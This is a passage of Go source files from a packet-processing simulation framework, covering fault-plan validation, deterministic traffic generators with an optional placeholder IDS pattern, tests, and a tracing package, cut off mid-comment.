			if ev.FlipPattern == 0 {
				return fmt.Errorf("fault: event %d (%s) is a no-op: zero flip pattern", i, ev.Kind)
			}
		case CorruptRecover:
			if ev.Device < 0 || ev.Device >= ndev {
				return fmt.Errorf("fault: event %d (%s) targets device %d of %d", i, ev.Kind, ev.Device, ndev)
			}
		default:
			return fmt.Errorf("fault: event %d has unknown kind %d", i, ev.Kind)
		}
	}
	return p.validateTimeline(ndev, nports, nqueues)
}

// devState is the per-device health automaton mirrored from gpu.Device.
type devState uint8

const (
	devNominal devState = iota
	devSlowed
	devFailed
	devHung
)

// validateTimeline replays events in application order (Sorted: by time,
// ties by plan position) against per-device and per-queue state.
func (p *Plan) validateTimeline(ndev, nports, nqueues int) error {
	// Sort indices rather than events so error messages cite the event's
	// position in the plan as authored.
	order := make([]int, len(p.Events))
	for i := range order {
		order[i] = i
	}
	sort.SliceStable(order, func(a, b int) bool {
		return p.Events[order[a]].At < p.Events[order[b]].At
	})

	devs := make([]devState, ndev)
	// Corruption is orthogonal to the health automaton: a slowed device can
	// corrupt, but corruption windows must not overlap fail/hang outages —
	// a failed device completes no tasks, so the overlap would silently
	// shrink the window the plan claims to apply.
	corrupting := make([]bool, ndev)
	qDown := make([]bool, nports*nqueues)
	queuesOf := func(ev Event) []int {
		if ev.Queue >= 0 {
			return []int{ev.Port*nqueues + ev.Queue}
		}
		all := make([]int, nqueues)
		for q := 0; q < nqueues; q++ {
			all[q] = ev.Port*nqueues + q
		}
		return all
	}

	for _, i := range order {
		ev := p.Events[i]
		switch ev.Kind {
		case DeviceFail:
			switch devs[ev.Device] {
			case devFailed:
				return fmt.Errorf("fault: event %d (%s) fails device %d which is already failed", i, ev.Kind, ev.Device)
			case devHung:
				return fmt.Errorf("fault: event %d (%s) fails device %d during an active Hang window", i, ev.Kind, ev.Device)
			}
			if corrupting[ev.Device] {
				return fmt.Errorf("fault: event %d (%s) fails device %d during an active Corrupt window", i, ev.Kind, ev.Device)
			}
			devs[ev.Device] = devFailed
		case DeviceHang:
			switch devs[ev.Device] {
			case devFailed:
				return fmt.Errorf("fault: event %d (%s) hangs device %d during an active Fail window", i, ev.Kind, ev.Device)
			case devHung:
				return fmt.Errorf("fault: event %d (%s) hangs device %d which is already hung", i, ev.Kind, ev.Device)
			}
			if corrupting[ev.Device] {
				return fmt.Errorf("fault: event %d (%s) hangs device %d during an active Corrupt window", i, ev.Kind, ev.Device)
			}
			devs[ev.Device] = devHung
		case DeviceSlowdown:
			switch devs[ev.Device] {
			case devFailed, devHung:
				return fmt.Errorf("fault: event %d (%s) slows device %d during an active outage", i, ev.Kind, ev.Device)
			}
			devs[ev.Device] = devSlowed
		case DeviceRecover:
			if devs[ev.Device] == devNominal {
				return fmt.Errorf("fault: event %d (%s) recovers device %d with no prior failure, hang or slowdown", i, ev.Kind, ev.Device)
			}
			devs[ev.Device] = devNominal
		case DeviceCorrupt:
			if corrupting[ev.Device] {
				return fmt.Errorf("fault: event %d (%s) corrupts device %d which is already corrupting", i, ev.Kind, ev.Device)
			}
			switch devs[ev.Device] {
			case devFailed, devHung:
				return fmt.Errorf("fault: event %d (%s) corrupts device %d during an active outage", i, ev.Kind, ev.Device)
			}
			corrupting[ev.Device] = true
		case CorruptRecover:
			if !corrupting[ev.Device] {
				return fmt.Errorf("fault: event %d (%s) clears corruption on device %d which is not corrupting", i, ev.Kind, ev.Device)
			}
			corrupting[ev.Device] = false
		case RxQueueDown:
			for _, q := range queuesOf(ev) {
				if qDown[q] {
					return fmt.Errorf("fault: event %d (%s) downs port %d queue %d which is already down", i, ev.Kind, ev.Port, q%nqueues)
				}
				qDown[q] = true
			}
		case RxQueueUp:
			for _, q := range queuesOf(ev) {
				if !qDown[q] {
					return fmt.Errorf("fault: event %d (%s) restores port %d queue %d which is not down", i, ev.Kind, ev.Port, q%nqueues)
				}
				qDown[q] = false
			}
		}
	}
	return nil
}

// Sorted returns the events ordered by time, ties broken by their position
// in the plan (stable), so application order is deterministic regardless of
// how the plan was assembled.
func (p *Plan) Sorted() []Event {
	out := append([]Event(nil), p.Events...)
	sort.SliceStable(out, func(i, j int) bool { return out[i].At < out[j].At })
	return out
}

// GPUOutage is the canonical outage scenario: device dev fails at failAt and
// recovers at recoverAt. It is the plan behind the `faults` bench scenario
// and the nbatrace record -faults self-check.
func GPUOutage(failAt, recoverAt simtime.Time, dev int) *Plan {
	return &Plan{Events: []Event{
		{At: failAt, Kind: DeviceFail, Device: dev},
		{At: recoverAt, Kind: DeviceRecover, Device: dev},
	}}
}

// Corruption is the canonical silent-corruption scenario: device dev starts
// flipping bits at `at` (per-aggregate probability prob, XOR pattern) and
// stops at recoverAt. It is the plan behind the `integrity` bench scenario
// and the nbatrace record -corrupt self-check.
func Corruption(at, recoverAt simtime.Time, dev int, prob float64, pattern byte) *Plan {
	return &Plan{Events: []Event{
		{At: at, Kind: DeviceCorrupt, Device: dev, CorruptProb: prob, FlipPattern: pattern},
		{At: recoverAt, Kind: CorruptRecover, Device: dev},
	}}
}

// Burst returns the two events of an offered-load burst: scale by factor at
// `at`, restore the nominal rate at `at+dur`.
func Burst(at, dur simtime.Time, factor float64) []Event {
	return []Event{
		{At: at, Kind: RateBurst, RateFactor: factor},
		{At: at + dur, Kind: RateBurst, RateFactor: 1},
	}
}
