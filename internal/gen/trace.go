package gen

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"

	"nba/internal/packet"
)

// TraceRecord is one packet of a recorded trace.
type TraceRecord struct {
	FrameLen uint16
	Src, Dst uint32
	SPort    uint16
	DPort    uint16
}

// Trace replays a recorded packet sequence (the stand-in for feeding a
// pcap of the CAIDA dataset to the packet generators). Replay loops over
// the records.
type Trace struct {
	Records []TraceRecord
	Seed    uint64

	mean float64
}

// traceMagic identifies the trace file format.
const traceMagic = 0x4E424154 // "NBAT"

// WriteTrace serialises records to w in the nbatrace binary format.
func WriteTrace(w io.Writer, records []TraceRecord) error {
	bw := bufio.NewWriter(w)
	var hdr [8]byte
	binary.LittleEndian.PutUint32(hdr[0:4], traceMagic)
	binary.LittleEndian.PutUint32(hdr[4:8], uint32(len(records)))
	if _, err := bw.Write(hdr[:]); err != nil {
		return err
	}
	var rec [14]byte
	for _, r := range records {
		binary.LittleEndian.PutUint16(rec[0:2], r.FrameLen)
		binary.LittleEndian.PutUint32(rec[2:6], r.Src)
		binary.LittleEndian.PutUint32(rec[6:10], r.Dst)
		binary.LittleEndian.PutUint16(rec[10:12], r.SPort)
		binary.LittleEndian.PutUint16(rec[12:14], r.DPort)
		if _, err := bw.Write(rec[:]); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// ReadTrace parses a trace file.
func ReadTrace(r io.Reader) (*Trace, error) {
	br := bufio.NewReader(r)
	var hdr [8]byte
	if _, err := io.ReadFull(br, hdr[:]); err != nil {
		return nil, fmt.Errorf("gen: reading trace header: %w", err)
	}
	if binary.LittleEndian.Uint32(hdr[0:4]) != traceMagic {
		return nil, fmt.Errorf("gen: not a trace file (bad magic)")
	}
	n := binary.LittleEndian.Uint32(hdr[4:8])
	t := &Trace{Records: make([]TraceRecord, 0, n)}
	var rec [14]byte
	for i := uint32(0); i < n; i++ {
		if _, err := io.ReadFull(br, rec[:]); err != nil {
			return nil, fmt.Errorf("gen: trace truncated at record %d: %w", i, err)
		}
		t.Records = append(t.Records, TraceRecord{
			FrameLen: binary.LittleEndian.Uint16(rec[0:2]),
			Src:      binary.LittleEndian.Uint32(rec[2:6]),
			Dst:      binary.LittleEndian.Uint32(rec[6:10]),
			SPort:    binary.LittleEndian.Uint16(rec[10:12]),
			DPort:    binary.LittleEndian.Uint16(rec[12:14]),
		})
	}
	return t, nil
}

// MeanFrameLen implements netio.Generator.
func (t *Trace) MeanFrameLen() float64 {
	if t.mean == 0 {
		var sum float64
		for _, r := range t.Records {
			sum += float64(r.FrameLen)
		}
		if len(t.Records) > 0 {
			t.mean = sum / float64(len(t.Records))
		}
	}
	return t.mean
}

// Fill implements netio.Generator by replaying records cyclically.
func (t *Trace) Fill(p *packet.Packet, port int, seq uint64) {
	if len(t.Records) == 0 {
		panic("gen: replay of empty trace")
	}
	rec := t.Records[seq%uint64(len(t.Records))]
	n := packet.BuildUDP4(p.Buf(), GenSrcMAC, GenDstMAC, rec.Src, rec.Dst, rec.SPort, rec.DPort, int(rec.FrameLen))
	p.SetLength(n)
	fillPayload(p, packet.EthHdrLen+packet.IPv4HdrLen+packet.UDPHdrLen, perPacket(t.Seed, port, seq), 0, nil)
}

// SynthesizeTrace produces a trace with the synthetic-CAIDA mix, for
// cmd/pktgen and tests.
func SynthesizeTrace(n int, seed uint64) []TraceRecord {
	g := &SyntheticCAIDA{Flows: 16384, Seed: seed}
	var p packet.Packet
	records := make([]TraceRecord, n)
	for i := range records {
		g.Fill(&p, 0, uint64(i))
		f := p.Data()
		ip := f[packet.EthHdrLen:]
		u := ip[packet.IPv4HdrLen:]
		records[i] = TraceRecord{
			FrameLen: uint16(p.Length()),
			Src:      packet.IPv4Src(ip),
			Dst:      packet.IPv4Dst(ip),
			SPort:    packet.UDPSrcPort(u),
			DPort:    packet.UDPDstPort(u),
		}
	}
	return records
}
