// Package gen provides deterministic workload generators: the fixed-size
// random UDP traffic used in most of the paper's experiments, and a
// synthetic stand-in for the CAIDA 2013 July trace used by Figures 2 and 13.
//
// Every generator is a pure function of (port, seq, seed), so any run is
// reproducible and RX queues can materialise packets lazily.
package gen

import (
	"fmt"

	"nba/internal/packet"
	"nba/internal/rng"
)

var (
	// GenSrcMAC/GenDstMAC are the MACs stamped on generated frames.
	GenSrcMAC = [6]byte{0x02, 0x11, 0x22, 0x33, 0x44, 0x01}
	GenDstMAC = [6]byte{0x02, 0x11, 0x22, 0x33, 0x44, 0x02}
)

// perPacket derives a deterministic PRNG for one (port, seq) pair.
func perPacket(seed uint64, port int, seq uint64) *rng.Rand {
	return rng.New(seed ^ uint64(port)<<48 ^ seq*0x9E3779B97F4A7C15)
}

// UDP4 generates fixed-size random IPv4/UDP traffic. A configurable
// fraction of packets carries an attack payload for IDS experiments.
type UDP4 struct {
	// FrameLen is the Ethernet frame length (>= 42).
	FrameLen int
	// Flows bounds the number of distinct 5-tuples (0 means unbounded
	// random addresses).
	Flows int
	// Seed drives all randomness.
	Seed uint64
	// AttackFrac is the fraction of packets whose payload contains
	// AttackPattern (for IDS workloads).
	AttackFrac    float64
	AttackPattern []byte
}

// MeanFrameLen implements netio.Generator.
func (g *UDP4) MeanFrameLen() float64 { return float64(g.FrameLen) }

// Fill implements netio.Generator.
func (g *UDP4) Fill(p *packet.Packet, port int, seq uint64) {
	r := perPacket(g.Seed, port, seq)
	src, dst, sport, dport := g.tuple(r)
	n := packet.BuildUDP4(p.Buf(), GenSrcMAC, GenDstMAC, src, dst, sport, dport, g.FrameLen)
	p.SetLength(n)
	fillPayload(p, packet.EthHdrLen+packet.IPv4HdrLen+packet.UDPHdrLen, r, g.AttackFrac, g.AttackPattern)
}

func (g *UDP4) tuple(r *rng.Rand) (src, dst uint32, sport, dport uint16) {
	if g.Flows > 0 {
		flow := uint32(r.Intn(g.Flows))
		// Spread flows over the address space so lookups hit diverse
		// prefixes while staying reproducible.
		src = 0x0A000000 + flow
		dst = flow * 2654435761 // Knuth multiplicative hash
		sport = uint16(1024 + flow%50000)
		dport = uint16(53 + flow%7)
		return
	}
	return r.Uint32(), r.Uint32(), uint16(r.Intn(65535) + 1), uint16(r.Intn(65535) + 1)
}

// UDP6 generates fixed-size random IPv6/UDP traffic. If Dsts is non-empty,
// destination addresses are drawn from it (with randomised host bits) so
// that traffic actually exercises a route table's prefixes instead of
// falling through to the default route.
type UDP6 struct {
	FrameLen int
	Flows    int
	Seed     uint64
	Dsts     []packet.IPv6Addr
}

// MeanFrameLen implements netio.Generator.
func (g *UDP6) MeanFrameLen() float64 { return float64(g.FrameLen) }

// Fill implements netio.Generator.
func (g *UDP6) Fill(p *packet.Packet, port int, seq uint64) {
	r := perPacket(g.Seed, port, seq)
	var src, dst packet.IPv6Addr
	if g.Flows > 0 {
		flow := uint64(r.Intn(g.Flows))
		src = packet.IPv6Addr{Hi: 0x2001_0DB8_0000_0000 | flow>>16, Lo: flow}
		dst = packet.IPv6Addr{Hi: flow * 0x9E3779B97F4A7C15, Lo: flow * 2654435761}
	} else {
		src = packet.IPv6Addr{Hi: r.Uint64(), Lo: r.Uint64()}
		dst = packet.IPv6Addr{Hi: r.Uint64(), Lo: r.Uint64()}
	}
	if len(g.Dsts) > 0 {
		dst = g.Dsts[r.Intn(len(g.Dsts))]
		dst.Lo |= r.Uint64() & 0xFFFFFFFF // randomise host bits
	}
	n := packet.BuildUDP6(p.Buf(), GenSrcMAC, GenDstMAC, src, dst,
		uint16(r.Intn(65535)+1), uint16(r.Intn(65535)+1), g.FrameLen)
	p.SetLength(n)
	fillPayload(p, packet.EthHdrLen+packet.IPv6HdrLen+packet.UDPHdrLen, r, 0, nil)
}

// sizeBucket is one step of an empirical frame-size CDF.
type sizeBucket struct {
	len  int
	frac float64 // cumulative probability
}

// caidaBuckets approximates the paper's CAIDA 2013 trace as a strongly
// small-packet-dominated bimodal mix (mean ~180 B). The calibration target
// is Figure 2's premise: packet-count-wise the trace sits just below the
// IPsec CPU/GPU crossover, so GPU-only beats CPU-only and the optimum
// offloading fraction is interior (~80%).
var caidaBuckets = []sizeBucket{
	{64, 0.75},
	{128, 0.85},
	{256, 0.90},
	{512, 0.93},
	{1024, 0.96},
	{1500, 1.00},
}

// SyntheticCAIDA generates IPv4/UDP traffic with the CAIDA-like size mix
// and a heavy-tailed flow popularity distribution.
type SyntheticCAIDA struct {
	Flows int
	Seed  uint64

	mean float64 // cached
}

// MeanFrameLen implements netio.Generator.
func (g *SyntheticCAIDA) MeanFrameLen() float64 {
	if g.mean == 0 {
		prev := 0.0
		for _, b := range caidaBuckets {
			g.mean += float64(b.len) * (b.frac - prev)
			prev = b.frac
		}
	}
	return g.mean
}

// Fill implements netio.Generator.
func (g *SyntheticCAIDA) Fill(p *packet.Packet, port int, seq uint64) {
	r := perPacket(g.Seed, port, seq)
	u := r.Float64()
	frameLen := caidaBuckets[len(caidaBuckets)-1].len
	for _, b := range caidaBuckets {
		if u < b.frac {
			frameLen = b.len
			break
		}
	}
	flows := g.Flows
	if flows <= 0 {
		flows = 65536
	}
	// Heavy-tailed flow popularity: squaring a uniform variate concentrates
	// mass on low flow IDs (a cheap Zipf-like skew).
	v := r.Float64()
	flow := uint32(v * v * float64(flows))
	src := 0x0A000000 + flow
	dst := flow*2654435761 + uint32(flow>>8)
	n := packet.BuildUDP4(p.Buf(), GenSrcMAC, GenDstMAC, src, dst,
		uint16(1024+flow%40000), uint16(53+flow%11), frameLen)
	p.SetLength(n)
	fillPayload(p, packet.EthHdrLen+packet.IPv4HdrLen+packet.UDPHdrLen, r, 0, nil)
}

// fillPayload writes deterministic payload bytes, optionally embedding an
// attack pattern with the given probability.
func fillPayload(p *packet.Packet, off int, r *rng.Rand, attackFrac float64, pattern []byte) {
	data := p.Data()
	if off >= len(data) {
		return
	}
	payload := data[off:]
	// Cheap deterministic filler: xorshift bytes. Avoid accidental pattern
	// matches by restricting to lowercase letters.
	x := r.Uint64() | 1
	for i := range payload {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		payload[i] = 'a' + byte(x%26)
	}
	if len(pattern) > 0 && attackFrac > 0 && r.Bool(attackFrac) && len(payload) >= len(pattern) {
		copy(payload[r.Intn(len(payload)-len(pattern)+1):], pattern)
	}
}

// Validate checks generator parameters.
func (g *UDP4) Validate() error {
	const minLen = packet.EthHdrLen + packet.IPv4HdrLen + packet.UDPHdrLen
	if g.FrameLen < minLen || g.FrameLen > packet.MaxFrameLen {
		return fmt.Errorf("gen: UDP4 frame length %d out of range [%d,%d]", g.FrameLen, minLen, packet.MaxFrameLen)
	}
	if g.AttackFrac < 0 || g.AttackFrac > 1 {
		return fmt.Errorf("gen: attack fraction %g out of [0,1]", g.AttackFrac)
	}
	return nil
}

// Validate checks generator parameters.
func (g *UDP6) Validate() error {
	const minLen = packet.EthHdrLen + packet.IPv6HdrLen + packet.UDPHdrLen
	if g.FrameLen < minLen || g.FrameLen > packet.MaxFrameLen {
		return fmt.Errorf("gen: UDP6 frame length %d out of range [%d,%d]", g.FrameLen, minLen, packet.MaxFrameLen)
	}
	return nil
}

// MixedL4 wraps UDP4-style traffic with a configurable fraction of TCP
// segments (same sizes and flows), so proto-sensitive elements (IPFilter,
// Snort-style tcp rules) see realistic protocol diversity.
type MixedL4 struct {
	FrameLen int
	Flows    int
	Seed     uint64
	// TCPFrac is the fraction of frames built as TCP (default 0 = all UDP).
	TCPFrac float64
	// AttackFrac / AttackPattern as in UDP4.
	AttackFrac    float64
	AttackPattern []byte
}

// MeanFrameLen implements netio.Generator.
func (g *MixedL4) MeanFrameLen() float64 { return float64(g.FrameLen) }

// Fill implements netio.Generator.
func (g *MixedL4) Fill(p *packet.Packet, port int, seq uint64) {
	r := perPacket(g.Seed^0x4D495845, port, seq)
	flows := g.Flows
	if flows <= 0 {
		flows = 65536
	}
	flow := uint32(r.Intn(flows))
	src := 0x0A000000 + flow
	dst := flow * 2654435761
	sport := uint16(1024 + flow%50000)
	dport := uint16(53 + flow%7)
	var off int
	if r.Bool(g.TCPFrac) {
		n := packet.BuildTCP4(p.Buf(), GenSrcMAC, GenDstMAC, src, dst, sport, 80,
			uint32(seq), packet.TCPPsh|packet.TCPAck, g.FrameLen)
		p.SetLength(n)
		off = packet.EthHdrLen + packet.IPv4HdrLen + packet.TCPHdrLen
	} else {
		n := packet.BuildUDP4(p.Buf(), GenSrcMAC, GenDstMAC, src, dst, sport, dport, g.FrameLen)
		p.SetLength(n)
		off = packet.EthHdrLen + packet.IPv4HdrLen + packet.UDPHdrLen
	}
	fillPayload(p, off, r, g.AttackFrac, g.AttackPattern)
}
