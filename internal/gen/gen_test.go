package gen

import (
	"bytes"
	"math"
	"testing"

	"nba/internal/packet"
)

func TestUDP4Deterministic(t *testing.T) {
	g := &UDP4{FrameLen: 64, Flows: 100, Seed: 1}
	var a, b packet.Packet
	g.Fill(&a, 3, 42)
	g.Fill(&b, 3, 42)
	if !bytes.Equal(a.Data(), b.Data()) {
		t.Error("same (port,seq) produced different frames")
	}
	g.Fill(&b, 3, 43)
	if bytes.Equal(a.Data(), b.Data()) {
		t.Error("different seq produced identical frames")
	}
}

func TestUDP4ValidFrames(t *testing.T) {
	g := &UDP4{FrameLen: 128, Flows: 50, Seed: 2}
	if err := g.Validate(); err != nil {
		t.Fatal(err)
	}
	var p packet.Packet
	for seq := uint64(0); seq < 100; seq++ {
		g.Fill(&p, 0, seq)
		if p.Length() != 128 {
			t.Fatalf("frame length %d, want 128", p.Length())
		}
		f := p.Data()
		if packet.EthType(f) != packet.EtherTypeIPv4 {
			t.Fatal("not IPv4")
		}
		if err := packet.CheckIPv4(f[packet.EthHdrLen:]); err != nil {
			t.Fatalf("invalid IPv4 header at seq %d: %v", seq, err)
		}
	}
}

func TestUDP4FlowBound(t *testing.T) {
	g := &UDP4{FrameLen: 64, Flows: 16, Seed: 3}
	var p packet.Packet
	seen := map[uint32]bool{}
	for seq := uint64(0); seq < 1000; seq++ {
		g.Fill(&p, 0, seq)
		seen[packet.IPv4Src(p.Data()[packet.EthHdrLen:])] = true
	}
	if len(seen) > 16 {
		t.Errorf("%d distinct sources, want <= 16", len(seen))
	}
	if len(seen) < 12 {
		t.Errorf("only %d of 16 flows seen in 1000 packets", len(seen))
	}
}

func TestUDP4AttackInjection(t *testing.T) {
	pattern := []byte("EVILPATTERN")
	g := &UDP4{FrameLen: 256, Flows: 10, Seed: 4, AttackFrac: 0.25, AttackPattern: pattern}
	var p packet.Packet
	hits := 0
	const n = 4000
	for seq := uint64(0); seq < n; seq++ {
		g.Fill(&p, 0, seq)
		if bytes.Contains(p.Data(), pattern) {
			hits++
		}
	}
	frac := float64(hits) / n
	if frac < 0.20 || frac > 0.30 {
		t.Errorf("attack fraction = %v, want ~0.25", frac)
	}
}

func TestUDP4ValidateErrors(t *testing.T) {
	if err := (&UDP4{FrameLen: 10}).Validate(); err == nil {
		t.Error("tiny frame accepted")
	}
	if err := (&UDP4{FrameLen: 64, AttackFrac: 2}).Validate(); err == nil {
		t.Error("bad attack fraction accepted")
	}
	if err := (&UDP6{FrameLen: 40}).Validate(); err == nil {
		t.Error("tiny v6 frame accepted")
	}
}

func TestUDP6ValidFrames(t *testing.T) {
	g := &UDP6{FrameLen: 80, Flows: 30, Seed: 5}
	var p packet.Packet
	for seq := uint64(0); seq < 50; seq++ {
		g.Fill(&p, 1, seq)
		f := p.Data()
		if packet.EthType(f) != packet.EtherTypeIPv6 {
			t.Fatal("not IPv6")
		}
		if err := packet.CheckIPv6(f[packet.EthHdrLen:]); err != nil {
			t.Fatalf("invalid IPv6 header: %v", err)
		}
	}
}

func TestSyntheticCAIDASizeMix(t *testing.T) {
	g := &SyntheticCAIDA{Flows: 1000, Seed: 6}
	var p packet.Packet
	counts := map[int]int{}
	const n = 20000
	for seq := uint64(0); seq < n; seq++ {
		g.Fill(&p, 0, seq)
		counts[p.Length()]++
	}
	small := float64(counts[64]) / n
	if small < 0.72 || small > 0.78 {
		t.Errorf("64B fraction = %v, want ~0.75", small)
	}
	big := float64(counts[1500]) / n
	if big < 0.02 || big > 0.06 {
		t.Errorf("1500B fraction = %v, want ~0.04", big)
	}
	// Empirical mean must match MeanFrameLen within 2%.
	var sum float64
	for ln, c := range counts {
		sum += float64(ln * c)
	}
	emp := sum / n
	if m := g.MeanFrameLen(); math.Abs(emp-m)/m > 0.02 {
		t.Errorf("empirical mean %v vs declared %v", emp, m)
	}
}

func TestSyntheticCAIDAFlowSkew(t *testing.T) {
	g := &SyntheticCAIDA{Flows: 1000, Seed: 7}
	var p packet.Packet
	counts := map[uint32]int{}
	const n = 20000
	for seq := uint64(0); seq < n; seq++ {
		g.Fill(&p, 0, seq)
		counts[packet.IPv4Src(p.Data()[packet.EthHdrLen:])]++
	}
	// Heavy tail: the most popular flow must be well above uniform share.
	max := 0
	for _, c := range counts {
		if c > max {
			max = c
		}
	}
	if uniform := n / 1000; max < 4*uniform {
		t.Errorf("max flow count %d, want >= 4x uniform share %d (heavy tail)", max, uniform)
	}
}

func TestTraceRoundTrip(t *testing.T) {
	records := SynthesizeTrace(500, 8)
	var buf bytes.Buffer
	if err := WriteTrace(&buf, records); err != nil {
		t.Fatal(err)
	}
	tr, err := ReadTrace(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(tr.Records) != 500 {
		t.Fatalf("read %d records, want 500", len(tr.Records))
	}
	for i := range records {
		if tr.Records[i] != records[i] {
			t.Fatalf("record %d mismatch: %+v vs %+v", i, tr.Records[i], records[i])
		}
	}
}

func TestTraceReplay(t *testing.T) {
	tr := &Trace{Records: SynthesizeTrace(100, 9), Seed: 9}
	var p packet.Packet
	tr.Fill(&p, 0, 0)
	first := append([]byte(nil), p.Data()...)
	tr.Fill(&p, 0, 100) // wraps around to record 0
	ipA := first[packet.EthHdrLen:]
	ipB := p.Data()[packet.EthHdrLen:]
	if packet.IPv4Src(ipA) != packet.IPv4Src(ipB) || len(first) != p.Length() {
		t.Error("replay did not wrap cyclically")
	}
	if tr.MeanFrameLen() <= 64 || tr.MeanFrameLen() >= 1500 {
		t.Errorf("trace mean frame len = %v", tr.MeanFrameLen())
	}
}

func TestReadTraceErrors(t *testing.T) {
	if _, err := ReadTrace(bytes.NewReader([]byte{1, 2, 3})); err == nil {
		t.Error("short header accepted")
	}
	var buf bytes.Buffer
	WriteTrace(&buf, SynthesizeTrace(10, 1))
	data := buf.Bytes()
	data[0] ^= 0xff
	if _, err := ReadTrace(bytes.NewReader(data)); err == nil {
		t.Error("bad magic accepted")
	}
	data[0] ^= 0xff
	if _, err := ReadTrace(bytes.NewReader(data[:len(data)-5])); err == nil {
		t.Error("truncated trace accepted")
	}
}

func TestEmptyTraceReplayPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("empty trace replay did not panic")
		}
	}()
	var p packet.Packet
	(&Trace{}).Fill(&p, 0, 0)
}

func TestMixedL4ProtocolFractions(t *testing.T) {
	g := &MixedL4{FrameLen: 128, Flows: 256, Seed: 10, TCPFrac: 0.4}
	var p packet.Packet
	tcp := 0
	const n = 10000
	for seq := uint64(0); seq < n; seq++ {
		g.Fill(&p, 0, seq)
		ip := p.Data()[packet.EthHdrLen:]
		if err := packet.CheckIPv4(ip); err != nil {
			t.Fatalf("invalid frame: %v", err)
		}
		switch packet.IPv4Proto(ip) {
		case packet.ProtoTCP:
			tcp++
		case packet.ProtoUDP:
		default:
			t.Fatalf("unexpected protocol %d", packet.IPv4Proto(ip))
		}
	}
	frac := float64(tcp) / n
	if frac < 0.37 || frac > 0.43 {
		t.Errorf("tcp fraction = %v, want ~0.4", frac)
	}
}
