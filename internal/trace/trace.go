// Package trace is the deterministic run-trace observability layer: a
// structured event stream recorded from the simulation substrate (engine
// dispatch, per-element batch processing, GPU command-queue phases,
// load-balancer updates, NIC enqueue/drop).
//
// Because the whole framework runs in virtual time, the trace of a run is —
// like every other output — a pure function of the configuration and seed.
// That makes traces diffable: two runs with the same inputs must produce
// byte-identical event streams, and any divergence pinpoints the first event
// where a regression changed behaviour. The golden-trace test suite pins
// digests of canonical runs so `go test` catches silent behaviour shifts.
//
// The tracer is designed for the worker hot path:
//
//   - a nil *Tracer is valid and Emit on it is a two-instruction no-op, so
//     call sites need no conditionals and a disabled tracer adds zero
//     allocations (verified by testing.AllocsPerRun tests);
//   - an enabled tracer writes into a pre-allocated ring and feeds a
//     streaming SHA-256 digest through a reused scratch buffer, so Emit
//     itself never allocates either;
//   - the digest and the periodic checkpoints cover every emitted event,
//     even ones later overwritten in the ring, so digests are independent of
//     the ring capacity.
package trace

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"hash"

	"nba/internal/simtime"
)

// Kind classifies trace events.
type Kind uint8

const (
	// KindDispatch is one simtime engine event firing. A = engine sequence
	// number of the fired event.
	KindDispatch Kind = iota
	// KindBatch is one element processing one batch. Name = element
	// instance, Actor = worker. A = live packets, B = cycles charged,
	// C = node ID.
	KindBatch
	// KindGPUSubmit is a device task entering the command queue. Name =
	// device, Actor = device index. A = task ID, B = packets, C = device
	// backlog (ps) at submission, D = submitting worker.
	KindGPUSubmit
	// KindGPUCopyH2D is the host-to-device copy phase. At = end of copy.
	// A = task ID, B = bytes, C = copy start (ps), D = submitting worker.
	KindGPUCopyH2D
	// KindGPULaunch is the kernel launch instant. A = task ID, B = kernel
	// launches in the chain, D = submitting worker.
	KindGPULaunch
	// KindGPUKernel is the kernel execution phase. At = end of execution.
	// A = task ID, B = packets, C = kernel start (ps), D = submitting worker.
	KindGPUKernel
	// KindGPUCopyD2H is the device-to-host return copy. At = task finish.
	// A = task ID, B = bytes, C = copy start (ps), D = submitting worker.
	KindGPUCopyD2H
	// KindLBUpdate is one adaptive load-balancer control step. Actor =
	// socket. A = math.Float64bits(W), B = math.Float64bits(smoothed
	// throughput), C = climb direction (+1/-1), D = waiting intervals set.
	KindLBUpdate
	// KindRx is a burst of packets delivered from an RX queue to a worker.
	// Actor = port. A = queue, B = packets delivered, C = backlog after the
	// poll.
	KindRx
	// KindRxDrop accounts RX-queue drops since the previous drop event.
	// Actor = port. A = queue, B = dropped (overflow + alloc), C = of which
	// mempool-exhaustion drops.
	KindRxDrop
	// KindFaultInject is a capacity-removing fault-plan event being applied.
	// A = fault.Kind, B = target (device, or port for RX-queue faults;
	// math.Float64bits(factor) for rate bursts), C = queue (RX-queue faults).
	KindFaultInject
	// KindFaultRecover is a capacity-restoring fault-plan event (device
	// recover, RX queue up). Payload as KindFaultInject.
	KindFaultRecover
	// KindFallback is a worker re-executing an offloaded aggregate on the
	// CPU after a device failure or completion timeout. Actor = worker.
	// A = task ID (0 when the task was refused before getting one),
	// B = packets, C = reason (0 = device failed, 1 = timeout,
	// 2 = admission rejected, 3 = socket has no plugged device),
	// D = governor level (admission rescues only).
	KindFallback
	// KindOverloadShed is overload control dropping packets. Actor = worker,
	// Name = mechanism ("codel" or "admission"). A = packets shed, B =
	// reason (0 = CoDel sojourn, 1 = admission rejection), C = max observed
	// sojourn (ps) for CoDel or device queue occupancy for admission,
	// D = governor level at the time.
	KindOverloadShed
	// KindOverloadLevel is a governor level transition. Actor = socket,
	// Name = new level. A = new level, B = old level, C = device-saturation
	// flag, D = CPU-saturation flag for the window that fired it.
	KindOverloadLevel
	// KindOverloadBias is the governor ratcheting the ALB weight bounds
	// toward the uncongested processor. Actor = socket. A =
	// math.Float64bits(lo), B = math.Float64bits(hi), C = device-saturation
	// flag, D = CPU-saturation flag.
	KindOverloadBias
	// KindReconfigBegin is a reconfiguration epoch opening: the affected
	// lanes or device quiesce and the drain starts. Name = reconfig event
	// kind. A = epoch number, B = reconfig.Kind, C = target (tenant index
	// for tenant events, device for plug events, port for resizes),
	// D = kind-specific payload (math.Float64bits(share) for retunes,
	// capacity for resizes).
	KindReconfigBegin
	// KindReconfigDrain closes the drain phase of an epoch. Name = reconfig
	// event kind. A = epoch number, B = drain duration (ps), C = tasks and
	// aggregates force-rescued through the CPU-fallback path, D = 1 when
	// the drain hit the DrainGrace deadline (0 = drained naturally).
	KindReconfigDrain
	// KindReconfigCommit is the epoch's handoff completing: shares
	// re-split, queues re-mapped, controllers and governors re-seated, the
	// datapath resumed. Name = reconfig event kind. A = epoch number,
	// B = reconfig.Kind, C = target (as KindReconfigBegin), D = lanes
	// re-seated (tenant events) or controllers re-seated (plug events) or
	// rings resized (resize events).
	KindReconfigCommit
	// KindIntegrityCheck is the sentinel re-executing a sampled offloaded
